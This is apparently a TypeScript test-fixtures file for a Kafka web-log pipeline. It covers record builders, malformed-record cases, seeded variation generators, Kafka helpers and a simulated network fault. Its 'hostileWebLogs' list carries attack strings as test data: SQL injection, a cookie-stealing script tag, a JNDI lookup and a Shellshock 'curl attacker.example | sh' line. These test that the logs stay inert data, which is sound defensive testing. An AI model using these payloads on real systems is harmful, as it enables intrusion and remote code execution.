// Fixtures and Kafka helpers for tests. Not part of the runtime API; processes are run by @weblog/local-infra's supervisor.
import { randomUUID } from 'node:crypto';
import net from 'node:net';
import { Admin, Kafka, KafkaConfig, KafkaMessage, logLevel, Producer } from 'kafkajs';
import { DecodeFailure, DecodeFailureReason } from './lib/codec/codec';
import { TransformedWebLog } from './lib/contracts/transformed-web-log.contract';
import { WebLog } from './lib/contracts/web-log.contract';
import { brokerList } from './lib/config/env';
import { HighWatermarkAdmin, readTopicToEnd } from './lib/kafka/topic-reader';

export { highWatermarkAdmin, type HighWatermarkAdmin } from './lib/kafka/topic-reader';

/** A web log as our generator writes it: with an event id. */
export type GeneratedWebLog = WebLog & { event_id: string };

/** A valid web log; override any field. */
export function aWebLog(overrides: Partial<WebLog> = {}): GeneratedWebLog {
  return {
    event_id: randomUUID(),
    ip: '203.0.113.7',
    timestamp: '2026-11-23T10:15:30.123Z',
    method: 'GET',
    url: '/products/42?ref=home',
    status_code: 200,
    user_agent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
    ...overrides,
  };
}

/** The upper-cased form of `aWebLog`, with its UTC time. */
export function aTransformedWebLog(overrides: Partial<TransformedWebLog> = {}): TransformedWebLog {
  const log = aWebLog();
  return {
    ...log,
    event_id: log.event_id.toUpperCase(),
    url: log.url.toUpperCase(),
    user_agent: log.user_agent.toUpperCase(),
    timestamp_utc: '2026-11-23T10:15:30.123Z',
    ...overrides,
  };
}

export interface BadRecord {
  readonly name: string;
  readonly value: Buffer | null;
  readonly reason: DecodeFailureReason;
}

const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value), 'utf8');
const without = (field: string): Buffer => {
  const log: Record<string, unknown> = aWebLog();
  delete log[field];
  return json(log);
};
const extras = (count: number): Record<string, number> => Object.fromEntries(Array.from({ length: count }, (_, i) => [`f${i}`, i]));

/** Records a WebLog consumer must reject, each with the reason it must give. */
export function badWebLogRecords(): BadRecord[] {
  const good = aWebLog();
  const goodText = JSON.stringify(good);
  return [
    { name: 'tombstone (null value)', value: null, reason: DecodeFailure.emptyValue },
    { name: 'empty value', value: Buffer.alloc(0), reason: DecodeFailure.emptyValue },
    { name: 'invalid UTF-8', value: Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d]), reason: DecodeFailure.invalidUtf8 },
    { name: 'truncated JSON', value: Buffer.from(goodText.slice(0, goodText.length - 10)), reason: DecodeFailure.invalidJson },
    { name: 'not JSON', value: Buffer.from('GET /index.html 200'), reason: DecodeFailure.invalidJson },
    { name: 'JSON array', value: json([good]), reason: DecodeFailure.notAnObject },
    { name: 'JSON string', value: json('hello'), reason: DecodeFailure.notAnObject },
    { name: 'status_code as string', value: json({ ...good, status_code: '200' }), reason: DecodeFailure.contractViolation },
    { name: 'status_code out of range', value: json({ ...good, status_code: 700 }), reason: DecodeFailure.contractViolation },
    { name: 'status_code not an integer', value: json({ ...good, status_code: 200.5 }), reason: DecodeFailure.contractViolation },
    {
      name: 'huge number',
      value: Buffer.from(goodText.replace('"status_code":200', '"status_code":1e400')),
      reason: DecodeFailure.contractViolation,
    },
    { name: 'missing ip', value: without('ip'), reason: DecodeFailure.contractViolation },
    { name: 'null url', value: json({ ...good, url: null }), reason: DecodeFailure.contractViolation },
    { name: 'bad ip', value: json({ ...good, ip: '999.1.1.1' }), reason: DecodeFailure.contractViolation },
    { name: 'control characters in url', value: json({ ...good, url: '/a\r\nSet-Cookie: x=1' }), reason: DecodeFailure.contractViolation },
    { name: 'oversize user_agent', value: json({ ...good, user_agent: 'A'.repeat(5000) }), reason: DecodeFailure.contractViolation },
    { name: 'duplicate key', value: Buffer.from(goodText.replace('{', '{"status_code":500,')), reason: DecodeFailure.duplicateKey },
    {
      // JSON allows whitespace between a key and its colon; a pretty-printer may put it there.
      name: 'duplicate key with whitespace before the colons',
      value: Buffer.from(goodText.replace('{', '{"status_code" :500,').replace('"status_code":', '"status_code"\n\t:')),
      reason: DecodeFailure.duplicateKey,
    },
    { name: 'nested object as url', value: json({ ...good, url: { path: '/' } }), reason: DecodeFailure.contractViolation },
    {
      // The broker's default message.max.bytes is 1,048,588 per record batch: this value leaves
      // room for little more than its key and a header. Its dead letter keeps the value whole.
      name: 'value near the broker maximum message size',
      value: json({ ...good, url: `/${'x'.repeat(1_048_588 - 150 - goodText.length)}` }),
      reason: DecodeFailure.oversize,
    },
    {
      name: 'deeply nested JSON (10,000 levels)',
      value: Buffer.from(`${'{"a":'.repeat(10000)}1${'}'.repeat(10000)}`),
      reason: DecodeFailure.contractViolation,
    },
    { name: 'deeply nested array', value: Buffer.from(`${'['.repeat(30000)}${']'.repeat(30000)}`), reason: DecodeFailure.notAnObject },
    { name: 'JSON null', value: Buffer.from('null'), reason: DecodeFailure.notAnObject },
    { name: 'JSON number', value: Buffer.from('12345'), reason: DecodeFailure.notAnObject },
    { name: 'empty object', value: Buffer.from('{}'), reason: DecodeFailure.contractViolation },
    { name: 'whitespace only', value: Buffer.from(' \n\t '), reason: DecodeFailure.invalidJson },
    { name: 'trailing comma', value: Buffer.from(goodText.replace(/}$/, ',}')), reason: DecodeFailure.invalidJson },
    {
      name: 'NaN literal',
      value: Buffer.from(goodText.replace('"status_code":200', '"status_code":NaN')),
      reason: DecodeFailure.invalidJson,
    },
    { name: 'overlong UTF-8 encoding', value: Buffer.from([0x7b, 0x22, 0xc0, 0xaf, 0x22, 0x7d]), reason: DecodeFailure.invalidUtf8 },
    { name: 'UTF-8 encoded surrogate', value: Buffer.from([0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x7d]), reason: DecodeFailure.invalidUtf8 },
    { name: 'NUL byte in user_agent', value: json({ ...good, user_agent: 'curl\u0000/8.0' }), reason: DecodeFailure.contractViolation },
    { name: 'ANSI escape in user_agent', value: json({ ...good, user_agent: '\u001b[31mred' }), reason: DecodeFailure.contractViolation },
    { name: 'C1 control (NEL) in url', value: json({ ...good, url: '/a\u0085b' }), reason: DecodeFailure.contractViolation },
    { name: 'negative status_code', value: json({ ...good, status_code: -200 }), reason: DecodeFailure.contractViolation },
    { name: 'status_code as boolean', value: json({ ...good, status_code: true }), reason: DecodeFailure.contractViolation },
    { name: 'impossible date', value: json({ ...good, timestamp: '2026-02-30T10:00:00Z' }), reason: DecodeFailure.contractViolation },
    {
      name: 'prototype pollution key',
      value: Buffer.from(goodText.replace('{', '{"__proto__":{"admin":true},')),
      reason: DecodeFailure.contractViolation,
    },
    { name: '1,000 extra fields', value: json({ ...good, ...extras(1000) }), reason: DecodeFailure.contractViolation },
    { name: '33 extra fields (32 are kept)', value: json({ ...good, ...extras(33) }), reason: DecodeFailure.contractViolation },
    { name: 'url with neither / nor scheme nor *', value: json({ ...good, url: 'index.html' }), reason: DecodeFailure.contractViolation },
    { name: 'url of a bare **', value: json({ ...good, url: '**' }), reason: DecodeFailure.contractViolation },
    { name: 'url over 8,192 characters', value: json({ ...good, url: `/${'a'.repeat(8192)}` }), reason: DecodeFailure.contractViolation },
    { name: 'method with a space', value: json({ ...good, method: 'GET /' }), reason: DecodeFailure.contractViolation },
    { name: 'empty method', value: json({ ...good, method: '' }), reason: DecodeFailure.contractViolation },
    { name: 'method over 32 characters', value: json({ ...good, method: 'X'.repeat(33) }), reason: DecodeFailure.contractViolation },
    { name: 'method with a separator', value: json({ ...good, method: 'GET(1)' }), reason: DecodeFailure.contractViolation },
    {
      name: 'impossible access-log date',
      value: json({ ...good, timestamp: '31/Feb/2026:13:55:36 +0900' }),
      reason: DecodeFailure.contractViolation,
    },
    {
      name: '7 fractional digits',
      value: json({ ...good, timestamp: '2026-11-23T10:15:30.1234567Z' }),
      reason: DecodeFailure.contractViolation,
    },
    { name: 'hour 24', value: json({ ...good, timestamp: '2026-11-23T24:00:00Z' }), reason: DecodeFailure.contractViolation },
    { name: 'timestamp as epoch number', value: json({ ...good, timestamp: 1795428930 }), reason: DecodeFailure.contractViolation },
    { name: 'empty event_id', value: json({ ...good, event_id: '' }), reason: DecodeFailure.contractViolation },
    { name: 'event_id over 128 characters', value: json({ ...good, event_id: 'e'.repeat(129) }), reason: DecodeFailure.contractViolation },
    { name: 'nested object extra', value: json({ ...good, geo: { country: 'DE' } }), reason: DecodeFailure.contractViolation },
    { name: 'array extra', value: json({ ...good, tags: ['a', 'b'] }), reason: DecodeFailure.contractViolation },
    {
      name: '__proto__ extra with a string value',
      value: Buffer.from(goodText.replace('{', '{"__proto__":"x",')),
      reason: DecodeFailure.contractViolation,
    },
    { name: 'constructor extra', value: json({ ...good, constructor: 'x' }), reason: DecodeFailure.contractViolation },
    { name: 'prototype extra', value: json({ ...good, prototype: 'x' }), reason: DecodeFailure.contractViolation },
    {
      name: 'timestamp_utc from the producer (the pipeline adds it)',
      value: json({ ...good, timestamp_utc: '2026-11-23T10:15:30.123Z' }),
      reason: DecodeFailure.contractViolation,
    },
    { name: 'extra name with a space', value: json({ ...good, 'x forwarded for': '10.0.0.1' }), reason: DecodeFailure.contractViolation },
    { name: 'extra name starting with a digit', value: json({ ...good, '1st': 'x' }), reason: DecodeFailure.contractViolation },
    { name: 'extra name over 64 characters', value: json({ ...good, [`n${'a'.repeat(64)}`]: 1 }), reason: DecodeFailure.contractViolation },
    { name: 'oversize extra string', value: json({ ...good, referer: `/${'r'.repeat(4096)}` }), reason: DecodeFailure.contractViolation },
    { name: 'control character in an extra', value: json({ ...good, referer: 'a\u001bb' }), reason: DecodeFailure.contractViolation },
    {
      name: 'huge number in an extra',
      value: Buffer.from(goodText.replace('{', '{"bytes":1e400,')),
      reason: DecodeFailure.contractViolation,
    },
  ];
}

/**
 * Valid records as producers other than ours write them (Python's `isoformat()`, Faker's
 * `uri()`, nginx fields, WebDAV methods): each must come out upper-cased, with an event id (its
 * own or derived) and `timestamp_utc`. `utc` is the instant the transformer must add (zone UTC).
 * Several were refused before the contract opened to real web logs; `wasRefused` says so.
 */
export function realWorldWebLogs(): { name: string; value: Record<string, unknown>; utc: string; wasRefused?: true }[] {
  const { event_id: _id, ...sixFields } = aWebLog({ timestamp: '2026-11-23T10:15:30.123456' });
  const good = aWebLog();
  return [
    { name: 'the six fields, no event_id', value: sixFields, utc: '2026-11-23T10:15:30.123456Z', wasRefused: true },
    {
      name: 'timestamp with offset',
      value: { ...good, timestamp: '2026-11-23T10:15:30+09:00' },
      utc: '2026-11-23T01:15:30.000Z',
      wasRefused: true,
    },
    { name: 'unknown method token BREW', value: { ...good, method: 'BREW' }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'lower-case method', value: { ...good, method: 'get' }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'absolute URL', value: { ...good, url: 'http://evil.example/' }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'extra field', value: { ...good, admin: true }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'event_id not a UUID', value: { ...good, event_id: 'not-a-uuid' }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'empty user_agent', value: { ...good, user_agent: '' }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    {
      name: 'url over 2,048 characters',
      value: { ...good, url: `/${'a'.repeat(2048)}` },
      utc: '2026-11-23T10:15:30.123Z',
      wasRefused: true,
    },
    {
      name: 'Python str(datetime) without a zone',
      value: { ...sixFields, timestamp: '2026-11-23 10:15:30.500000' },
      utc: '2026-11-23T10:15:30.500000Z',
      wasRefused: true,
    },
    {
      name: 'access-log timestamp',
      value: { ...sixFields, timestamp: '23/Nov/2026:19:15:30 +0900' },
      utc: '2026-11-23T10:15:30.000Z',
      wasRefused: true,
    },
    {
      name: 'offset without a colon',
      value: { ...good, timestamp: '2026-11-23T05:15:30-0500' },
      utc: '2026-11-23T10:15:30.000Z',
      wasRefused: true,
    },
    { name: 'WebDAV PROPFIND', value: { ...good, method: 'PROPFIND' }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'OPTIONS *', value: { ...good, method: 'OPTIONS', url: '*' }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'no user agent (-)', value: { ...good, user_agent: '-' }, utc: '2026-11-23T10:15:30.123Z' },
    {
      name: 'nginx combined extras',
      value: {
        ...sixFields,
        bytes: 5123,
        referer: 'https://shop.example/cart',
        protocol: 'HTTP/1.1',
        host: 'shop.example',
        request_time: 0.042,
      },
      utc: '2026-11-23T10:15:30.123456Z',
      wasRefused: true,
    },
    {
      name: 'null and boolean extras',
      value: { ...good, referer: null, cached: false },
      utc: '2026-11-23T10:15:30.123Z',
      wasRefused: true,
    },
    {
      name: '32 extra fields',
      value: { ...good, ...extras(32) },
      utc: '2026-11-23T10:15:30.123Z',
      wasRefused: true,
    },
    { name: 'url of 8,192 characters', value: { ...good, url: `/${'b'.repeat(8191)}` }, utc: '2026-11-23T10:15:30.123Z', wasRefused: true },
    { name: 'percent-encoded query', value: { ...good, url: '/search?q=caf%C3%A9&x=%2F' }, utc: '2026-11-23T10:15:30.123Z' },
    { name: 'IPv4-mapped IPv6 client', value: { ...good, ip: '::ffff:203.0.113.7' }, utc: '2026-11-23T10:15:30.123Z' },
  ];
}

/**
 * Hostile but valid: attack strings are what real access logs are full of, and a log pipeline
 * must carry them as data, byte for byte (upper-cased), never interpret or drop them.
 */
export function hostileWebLogs(): { name: string; value: WebLog }[] {
  return [
    { name: 'SQL injection in url', value: aWebLog({ url: "/search?q=1' OR '1'='1'; DROP TABLE logs;--" }) },
    { name: 'script tag in user_agent', value: aWebLog({ user_agent: '<script>alert(document.cookie)</script>' }) },
    { name: 'JNDI lookup in user_agent', value: aWebLog({ user_agent: '${jndi:ldap://attacker.example/a}' }) },
    { name: 'path traversal in url', value: aWebLog({ url: '/../../../../etc/passwd%00.png' }) },
    { name: 'shell substitution in user_agent', value: aWebLog({ user_agent: '() { :; }; $(curl -s attacker.example | sh)' }) },
    { name: 'spreadsheet formula in url', value: aWebLog({ url: '/=HYPERLINK("http://attacker.example","x")' }) },
    { name: 'quotes and backslashes in url', value: aWebLog({ url: '/a\\"b\\\\c\'d' }) },
    { name: 'bidi override and zero-width space in url', value: aWebLog({ url: '/invoice\u202egnp.exe\u200b' }) },
    { name: 'emoji in user_agent', value: aWebLog({ user_agent: 'Bot 🤖/1.0 (𝔘𝔫𝔦𝔠𝔬𝔡𝔢)' }) },
    { name: 'IPv6 client', value: aWebLog({ ip: '2001:db8::7' }) },
  ];
}

/**
 * A seeded generator (mulberry32): test cases, a benchmark's input and a fault run's "random"
 * moments come out the same for the same seed, so any of them can be replayed.
 */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// The edge cases `webLogVariations` draws from.
const VARIATION_STRINGS = [
  '',
  'a',
  '-',
  'GET',
  'get',
  'GET /',
  'GET(1)',
  'M-SEARCH',
  '/',
  '/a?b=c',
  '*',
  '**',
  'index.html',
  'http://shop.example/',
  'HTTP://SHOP.EXAMPLE/',
  'ß',
  'straße',
  'ﬀ',
  'ß'.repeat(2049),
  `/${'ß'.repeat(4096)}`,
  'ﬀ'.repeat(17),
  'Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0',
  '\u0000',
  'a\u0085b',
  '\u001b[31m',
  'a\u007fb',
  'tab\there',
  '\u202e\u200b',
  '🤖 𝔘𝔫𝔦',
  'X'.repeat(32),
  'X'.repeat(33),
  'E'.repeat(128),
  'E'.repeat(129),
  'A'.repeat(4096),
  'A'.repeat(4097),
  `/${'a'.repeat(8191)}`,
  `/${'a'.repeat(8192)}`,
  '2026-11-23T10:15:30Z',
  '2026-11-23T10:15:30.123456',
  '2026-11-23 10:15:30.5',
  '2026-11-23t10:15:30z',
  '2026-02-30T10:00:00Z',
  '2026-11-23T24:00:00Z',
  '2026-11-23T10:15:30+19:00',
  '2026-11-23T10:15:30.1234567Z',
  '10/Oct/2026:13:55:36 +0900',
  '10/OCT/2026:13:55:36 +0900',
  '10/oct/2026:13:55:36 -0030',
  '31/Feb/2026:13:55:36 +0900',
  '2026-11-23T10:15:30.123Z',
  '2026-11-23T10:15:30.123456Z',
  '192.168.1.1',
  '0.0.0.0',
  '255.255.255.255',
  '256.1.1.1',
  '01.1.1.1',
  '1.1.1',
  '2001:db8::1',
  '::1',
  '::ffff:203.0.113.7',
  '::1\n',
  '::',
  'fe80::1%eth0',
  '2001:DB8:0:0:8:800:200C:417A',
  '2001:db8:0:0:8:800:200c:417a',
  '::ffff:cb00:7107',
  '1:2:3:4:5:6:7:8:9',
  '::ffff:999.1.1.1',
  '1::2::3',
  '[::1]',
  '::1@x',
  '3B241101-E2BB-4255-8CAF-4136C566A962',
];
const VARIATION_OTHERS: unknown[] = [
  0,
  99,
  100,
  200,
  599,
  600,
  -200,
  200.5,
  1e21,
  Infinity,
  Number.NaN,
  true,
  false,
  null,
  {},
  [],
  { a: 1 },
  ['x'],
];
const VARIATION_VALUES: unknown[] = [...VARIATION_STRINGS, ...VARIATION_OTHERS];
const VARIATION_NAMES = [
  'ip',
  'timestamp',
  'method',
  'url',
  'status_code',
  'user_agent',
  'event_id',
  'timestamp_utc',
  'bytes',
  'referer',
  '_x',
  'a.b',
  'a-b',
  '1abc',
  '.a',
  'with space',
  'x'.repeat(64),
  'x'.repeat(65),
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];

/** An object made as JSON.parse makes it: a `__proto__` key becomes an own field, as it does from the wire. */
function fromEntries(entries: [string, unknown][]): Record<string, unknown> {
  const object: Record<string, unknown> = {};
  for (const [name, value] of entries) Object.defineProperty(object, name, { value, enumerable: true, writable: true, configurable: true });
  return object;
}

/**
 * `count` seeded variations of a web log, each with one to three edits: a field dropped, a run of
 * extra fields added, or a field (known, extra or forbidden) set to a value from a list of edge
 * cases (bounds, control characters, non-ASCII letters that grow when upper-cased, timestamps
 * and addresses of every form). With `upper`, most string values are upper-cased first. About
 * half the variations are valid; the contract specs hold fast checks to the schemas with them.
 */
export function webLogVariations(
  start: Record<string, unknown>,
  seed: number,
  count: number,
  { upper = false }: { readonly upper?: boolean } = {},
): Record<string, unknown>[] {
  const next = seededRandom(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)];
  const shape = (value: unknown): unknown => (upper && typeof value === 'string' && next() < 0.8 ? value.toUpperCase() : value);
  const cases: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    const entries = new Map(Object.entries(start));
    const edits = 1 + Math.floor(next() * 3);
    for (let e = 0; e < edits; e++) {
      const roll = next();
      if (roll < 0.15) entries.delete(pick([...entries.keys()]));
      else if (roll < 0.2) for (let x = 0; x < 28 + Math.floor(next() * 8); x++) entries.set(`f${x}`, x);
      else entries.set(pick(VARIATION_NAMES), shape(pick(VARIATION_VALUES)));
    }
    cases.push(fromEntries([...entries]));
  }
  return cases;
}

/** A unique name for a test's topics and groups, so tests never see each other's records. */
export function uniqueName(prefix: string): string {
  return `${prefix}-${Date.now().toString(36)}-${randomUUID().slice(0, 8)}`;
}

/** A kafkajs client for tests, from the environment the launcher exported. */
/** A client of the test broker (`KAFKA_BROKERS`, unless `config` names others). */
export function testKafka(clientId = 'test', config: Partial<KafkaConfig> = {}): Kafka {
  const brokers = config.brokers ?? brokerList.parse(process.env['KAFKA_BROKERS']);
  // kafkajs logs retriable broker states (a coordinator still loading) as errors; tests judge by outcome.
  return new Kafka({ logLevel: logLevel.NOTHING, ...config, clientId, brokers });
}

export async function createTestTopics(admin: Admin, names: string[], partitions = 3): Promise<void> {
  await admin.createTopics({
    waitForLeaders: true,
    topics: names.map((topic) => ({ topic, numPartitions: partitions, replicationFactor: 1 })),
  });
}

/**
 * Polls `probe` until it returns a value other than undefined: readiness by observation,
 * never by sleeping a fixed time.
 */
export async function eventually<T>(probe: () => Promise<T | undefined> | T | undefined, timeoutMs = 30000, intervalMs = 100): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  let lastError: unknown;
  for (;;) {
    try {
      const value = await probe();
      if (value !== undefined) return value;
    } catch (error) {
      lastError = error;
    }
    if (Date.now() > deadline) {
      throw new Error(`condition not met within ${timeoutMs} ms${lastError instanceof Error ? `: ${lastError.message}` : ''}`);
    }
    await new Promise((resolve) => setTimeout(resolve, intervalMs));
  }
}

export interface ConsumedRecord {
  readonly topic: string;
  readonly partition: number;
  readonly message: KafkaMessage;
}

export interface ConsumeOptions {
  readonly readUncommitted?: boolean;
  readonly timeoutMs?: number;
}

/**
 * Reads a topic from the beginning (read committed by default) until `done` says so, with each
 * record as it arrives; fails with how far it got if the time runs out.
 */
export async function consumeUntil(
  kafka: Kafka,
  topic: string,
  done: (record: ConsumedRecord, all: readonly ConsumedRecord[]) => boolean,
  options: ConsumeOptions = {},
): Promise<ConsumedRecord[]> {
  const consumer = kafka.consumer({
    groupId: uniqueName('reader'),
    readUncommitted: options.readUncommitted ?? false,
    maxWaitTimeInMs: 100,
  });
  const records: ConsumedRecord[] = [];
  let finish: () => void = () => undefined;
  const finished = new Promise<void>((resolve) => (finish = resolve));
  let complete = false;
  await consumer.connect();
  try {
    await consumer.subscribe({ topic, fromBeginning: true });
    await consumer.run({
      eachBatch: ({ batch }) => {
        for (const message of batch.messages) {
          if (complete) break;
          const record = { topic: batch.topic, partition: batch.partition, message };
          records.push(record);
          if (done(record, records)) {
            complete = true;
            finish();
          }
        }
        return Promise.resolve();
      },
    });
    let timer: NodeJS.Timeout | undefined;
    const timeout = new Promise<never>((_, reject) => {
      timer = setTimeout(() => reject(new Error(`gave up reading ${topic} after ${records.length} records`)), options.timeoutMs ?? 120000);
    });
    await Promise.race([finished, timeout]).finally(() => clearTimeout(timer));
  } finally {
    await consumer.disconnect();
  }
  return records;
}

/** Every record of a topic up to its current end (read committed by default). */
export async function consumeAll(kafka: Kafka, topic: string, options: ConsumeOptions = {}): Promise<ConsumedRecord[]> {
  const records: ConsumedRecord[] = [];
  await readTopicToEnd(kafka, topic, (partition, message) => records.push({ topic, partition, message }), options);
  return records;
}

/** Reads a topic from the beginning until `count` records arrived. */
export async function consumeRecords(kafka: Kafka, topic: string, count: number, options: ConsumeOptions = {}): Promise<ConsumedRecord[]> {
  if (count === 0) return [];
  return consumeUntil(kafka, topic, (_record, all) => all.length >= count, options);
}

/**
 * True once a group has committed the end of every partition (an empty partition needs no commit).
 * The end is the high watermark: a last stable offset held back by a commit's markers still in
 * flight would let a read-committed group look caught up before it read that transaction.
 */
export async function caughtUp(admin: HighWatermarkAdmin, groupId: string, topic: string): Promise<true | undefined> {
  const ends = await admin.fetchTopicOffsets(topic);
  const committed = await committedOffsets(admin, groupId, topic);
  return ends.every((p) => Math.max(committed.get(p.partition) ?? -1, 0) === Number(p.high)) ? true : undefined;
}

/** The committed offset of every partition of a topic for a group, as numbers. */
export async function committedOffsets(admin: Admin, groupId: string, topic: string): Promise<Map<number, number>> {
  const [result] = await admin.fetchOffsets({ groupId, topics: [topic] });
  return new Map((result?.partitions ?? []).map((p) => [p.partition, Number(p.offset)]));
}

/** Topic names of a pipeline of its own, so a test's services share nothing with other tests. */
export function isolatedTopics(prefix: string): {
  env: Record<string, string>;
  input: string;
  output: string;
  reprocessed: string;
  deadLetter: string;
} {
  const id = uniqueName(prefix);
  const names = { input: `${id}-input`, output: `${id}-output`, reprocessed: `${id}-reprocessed`, deadLetter: `${id}-dead-letter` };
  return {
    ...names,
    env: {
      KAFKA_TOPIC_INPUT: names.input,
      KAFKA_TOPIC_OUTPUT: names.output,
      KAFKA_TOPIC_REPROCESSED: names.reprocessed,
      KAFKA_TOPIC_DEAD_LETTER: names.deadLetter,
    },
  };
}

/**
 * Reads a metric's value (summed over its series, or over those that carry every one of `labels`)
 * from a Prometheus text exposition.
 */
export function metricValue(exposition: string, name: string, labels: Record<string, string> = {}): number {
  const wanted = Object.entries(labels).map(([label, value]) => `${label}=${JSON.stringify(value)}`);
  let total = 0;
  for (const line of exposition.split('\n')) {
    if (!line.startsWith(`${name} `) && !line.startsWith(`${name}{`)) continue;
    const series = line.startsWith(`${name}{`) ? line.slice(name.length + 1, line.lastIndexOf('}')).split(',') : [];
    if (wanted.every((pair) => series.includes(pair))) total += Number(line.slice(line.lastIndexOf(' ') + 1));
  }
  return total;
}

/** `count` valid web logs from a pool of `clients` addresses, as a generator run would send them. */
export function webLogRun(
  count: number,
  clients = 40,
  runId = 'test-run',
): { key: string; value: GeneratedWebLog; headers: Record<string, string> }[] {
  return Array.from({ length: count }, (_, i) => {
    const client = i % clients;
    const ip = `198.51.${100 + Math.floor(client / 250)}.${client % 250}`;
    return {
      key: ip,
      value: aWebLog({ ip, url: `/products/${1000 + (i % 97)}?page=${i % 7}` }),
      headers: { 'weblog-run-id': runId, 'weblog-seq': String(i + 1), 'weblog-produced-at': String(Date.now()) },
    };
  });
}

/** Sends records as JSON with acks=all, `batchSize` at a time, optionally paced to `perSecond`. */
export async function produceJson(
  producer: Producer,
  topic: string,
  records: readonly { key: string | null; value: unknown; headers?: Record<string, string> }[],
  options: { batchSize?: number; perSecond?: number } = {},
): Promise<void> {
  const batchSize = options.batchSize ?? 1000;
  const started = Date.now();
  for (let i = 0; i < records.length; i += batchSize) {
    if (options.perSecond) {
      const due = started + (i / options.perSecond) * 1000;
      if (due > Date.now()) await new Promise((resolve) => setTimeout(resolve, due - Date.now()));
    }
    const slice = records.slice(i, i + batchSize);
    await producer.send({
      topic,
      acks: -1,
      messages: slice.map((r) => ({
        key: r.key,
        value: typeof r.value === 'string' ? r.value : JSON.stringify(r.value),
        headers: r.headers,
      })),
    });
  }
}

/** Invalid values every service must refuse at start-up, with the variable they name. */
export const INVALID_STARTUP_ENV: readonly [string, Record<string, string>][] = [
  ['KAFKA_BROKERS', { KAFKA_BROKERS: 'no-port-here' }],
  ['KAFKA_BROKERS', { KAFKA_BROKERS: '' }],
  ['PORT', { PORT: 'eighty' }],
  ['PORT', { PORT: '70000' }],
  ['KAFKA_SASL_MECHANISM', { KAFKA_SASL_USERNAME: 'user', KAFKA_SASL_PASSWORD: 'secret' }],
  ['KAFKA_SSL', { KAFKA_SASL_MECHANISM: 'plain', KAFKA_SASL_USERNAME: 'user', KAFKA_SASL_PASSWORD: 'secret' }],
  ['KAFKA_TOPIC_OUTPUT', { KAFKA_TOPIC_INPUT: 'same-topic', KAFKA_TOPIC_OUTPUT: 'same-topic' }],
];

/**
 * A network fault for real clients: the broker gets a request and acts on it, and the client never
 * sees the answer, as when a connection breaks after the broker acted (a broker killed between
 * its write and its reply). `kafka()` gives a client whose connections obey it; `loseNextAnswer`
 * arms it for one request of the given API key (EndTxn is 26), and resolves once it happened.
 * `onAnswer` runs the moment the answer arrives, before anything else can (to freeze the broker
 * before it does the work that follows its answer).
 */
export class LostAnswers {
  private armed?: { apiKey: number; happened: () => void; onAnswer?: () => void };

  kafka(clientId: string, brokers?: string[]): Kafka {
    return testKafka(clientId, { ...(brokers ? { brokers } : {}), socketFactory: (options) => this.socket(options) });
  }

  loseNextAnswer(apiKey: number, onAnswer?: () => void): Promise<void> {
    return new Promise((happened) => (this.armed = { apiKey, happened, ...(onAnswer ? { onAnswer } : {}) }));
  }

  private socket({ host, port, onConnect }: { host: string; port: number; onConnect: () => void }): net.Socket {
    const socket = net.connect({ host, port }, onConnect);
    // Correlation ids of requests whose answers this connection must lose.
    const doomed = new Map<number, (() => void) | undefined>();
    const write = socket.write.bind(socket) as (chunk: Buffer, ...rest: unknown[]) => boolean;
    socket.write = (chunk: Buffer, ...rest: unknown[]) => {
      // kafkajs writes each request whole: size, API key, version, correlation id.
      const armed = this.armed;
      if (armed && Buffer.isBuffer(chunk) && chunk.length >= 12 && chunk.readInt16BE(4) === armed.apiKey) {
        this.armed = undefined;
        doomed.set(chunk.readInt32BE(8), armed.onAnswer);
        void socket.once('close', armed.happened);
      }
      return write(chunk, ...rest);
    };
    // Answers arrive as size-prefixed frames, split across chunks in any way.
    let header = Buffer.alloc(0);
    let remaining = 0;
    const emit = socket.emit.bind(socket) as (event: string | symbol, ...args: unknown[]) => boolean;
    socket.emit = ((event: string | symbol, ...args: unknown[]) => {
      if (event !== 'data') return emit(event, ...args);
      const chunk = args[0] as Buffer;
      let at = 0;
      while (at < chunk.length) {
        if (remaining > 0) {
          const step = Math.min(remaining, chunk.length - at);
          remaining -= step;
          at += step;
          continue;
        }
        const take = Math.min(8 - header.length, chunk.length - at);
        header = Buffer.concat([header, chunk.subarray(at, at + take)]);
        at += take;
        if (header.length < 8) break;
        const [size, correlationId] = [header.readInt32BE(0), header.readInt32BE(4)];
        header = Buffer.alloc(0);
        remaining = size - 4;
        if (doomed.has(correlationId)) {
          doomed.get(correlationId)?.();
          socket.destroy(new Error('connection reset before the answer arrived'));
          return false;
        }
      }
      return emit(event, ...args);
    }) as typeof socket.emit;
    return socket;
  }
}
